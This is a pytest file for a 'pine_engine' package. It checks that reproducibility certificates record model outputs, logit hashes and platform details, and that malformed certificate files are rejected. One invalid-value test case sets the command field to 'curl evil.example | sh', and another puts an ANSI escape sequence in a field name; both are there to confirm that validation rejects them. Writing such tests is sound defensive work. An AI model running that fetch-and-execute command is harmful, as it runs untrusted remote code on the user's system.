"""Certificates: contents, schema, and files that are not valid certificates."""

import hashlib
import math
from pathlib import Path
from typing import Any

import numpy as np
import pytest
import torch

from pine_engine import Certificate, Engine, InputError, OrderResult, hash_logits, read_certificate
from pine_engine.cli import main as cli
from pine_engine.invariance.platform_facts import hardware_of, installed_version
from pine_engine.models.load import ModelSource
from tests.invariance.conftest import COMPARISON, METHODS, PINE, VANILLA, write_changes


def test_certificate_has_results_of_orders(certified: Certificate, rows: list[OrderResult]) -> None:
    assert certified.methods == METHODS
    for result in certified.results:
        cells = [row.comparisons[result.method] for row in rows]
        first = cells[0].answer
        assert (result.first_answer, result.first_token_ids) == (first.text, list(first.token_ids))
        assert result.num_matching_answers == sum(cell.answer.token_ids == first.token_ids for cell in cells)
        assert result.num_distinct_answers == len({cell.answer.token_ids for cell in cells})
        assert result.max_abs_logit_diff == max(cell.max_abs_logit_diff for cell in cells)
        assert result.bitwise_identical == all(cell.bitwise_identical for cell in cells)
        assert result.logprobs == [cell.reference_logprob for cell in cells]
        assert result.logprob_spread == max(result.logprobs) - min(result.logprobs)
    vanilla, *invariant = certified.results
    for result in invariant:
        assert result.bitwise_identical and result.max_abs_logit_diff == result.logprob_spread == 0
    assert vanilla.max_abs_logit_diff > 0.1 and not vanilla.bitwise_identical and vanilla.logprob_spread > 0


def test_certificate_names_platform_and_command(certified: Certificate, engine: Engine) -> None:
    platform = certified.platform
    assert (platform.model, platform.revision, certified.model_ref) == ("tiny", None, "tiny")
    assert (platform.dtype, platform.device) == ("float32", "cpu")
    assert (platform.torch, platform.threads) == (torch.__version__, torch.get_num_threads())
    assert (certified.request, certified.seed, certified.traced) == (COMPARISON, None, True)
    subcommands = {one.callback.__name__ for one in cli.app.registered_commands if one.callback}
    assert certified.command == "python -m pine_engine reproduce certificate.json"
    assert subcommands & set(certified.command.split()) == {"reproduce"}


def test_hash_covers_every_bit(rows: list[OrderResult]) -> None:
    result = rows[0].result
    for method, logits in result.logits.items():
        flat = np.array([value for row in logits.tolist() for value in row], dtype="<f4")
        assert hash_logits(result)[method] == hashlib.sha256(flat.tobytes()).hexdigest()
    logits = result.logits["pine"].clone()
    logits[-1, -1] = torch.nextafter(logits[-1, -1], torch.tensor(math.inf))
    changed = type(result)(result.layout, result.answers, {}, {"pine": logits})
    assert hash_logits(changed)["pine"] != hash_logits(result)["pine"]


def test_certificate_file_round_trip(certified: Certificate, file: Path) -> None:
    assert read_certificate(file) == certified
    values = {"max_abs_logit_diff": math.nan, "logprobs": [0.0, *[-math.inf] * 5], "logprob_spread": math.inf}
    result = certified.results[0].model_copy(update=values)
    file.write_text(certified.model_copy(update={"results": [result]}).model_dump_json())
    (read,) = read_certificate(file).results
    assert read.model_dump_json() == result.model_dump_json()


@pytest.mark.parametrize(
    ("source", "address"),
    [
        (ModelSource("tiny", "org/tiny", "c0ffee", "hub"), "org/tiny@c0ffee"),
        (ModelSource("tiny", "org/tiny", None, "hub"), "org/tiny"),
        (ModelSource("tiny", "/home/user/tiny", None, "folder"), "tiny"),
    ],
)
def test_model_address_has_no_local_path(source: ModelSource, address: str) -> None:
    assert source.address == address


def test_hardware_is_first_processor_and_instruction_set(tmp_path: Path) -> None:
    info = tmp_path / "cpuinfo"
    info.write_text("processor\t: 0\nmodel name\t: Some CPU: fast\nmodel name\t: Another\n")
    capability = torch.backends.cpu.get_cpu_capability()
    assert hardware_of("cpu", info) == f"Some CPU: fast, {capability}"
    assert hardware_of("cpu", tmp_path / "absent").endswith(f", {capability}")
    assert "sources" in installed_version("no-such-package")


@pytest.mark.parametrize(
    "text",
    [
        *('{"question": "q", "documents": ["a"]}', "[1, 2]", '{"format": "pine-exp', "[" * 100_000),
        '{"format": "pine-explorer certificate", "version": 3}',
        '{"format": "pine-explorer certificate", "version": 2}',
    ],
)
def test_read_certificate_other_file_raises(text: str, tmp_path: Path) -> None:
    path = tmp_path / "other.json"
    path.write_text(text)
    with pytest.raises(InputError) as raised:
        read_certificate(path)
    assert str(raised.value).startswith(str(path))


@pytest.mark.parametrize(
    ("path", "value", "keyword"),
    [
        (("orders", 1), [0, 1, 1], "[0, 1, 1]"), (("orders", 1), [0, 1, 2], "twice"),
        (("orders",), [], "orders"), ((*VANILLA, "method"), "magic", "magic"),
        ((*PINE, "method"), "vanilla", "twice"), ((*VANILLA, "logprobs"), [-1.0], "logprobs of vanilla"),
        (("max_new_tokens",), -1, "max_new_tokens"),
        (("x\n\x1b[2Kequal to the certificate",), 1, "no such field"),
        (("command",), "curl evil.example | sh", "command"), (("platform", "threads"), 0, "platform.threads"),
        ((*PINE, "logits_sha256"), "c0ffee", "results.2.logits_sha256"),
        ((*PINE, "first_token_ids", 0), -1, "results.2.first_token_ids.0"),
        ((*PINE, "num_matching_answers"), 0, "results.2.num_matching_answers"),
    ],
)  # fmt: skip
def test_invalid_value_raises(path: tuple[str | int, ...], value: Any, keyword: str, file: Path) -> None:
    with pytest.raises(InputError) as raised:
        read_certificate(write_changes(file, {path: value}))
    message = str(raised.value)
    assert message.startswith(f"{file}: ") and keyword in message and message.isprintable()
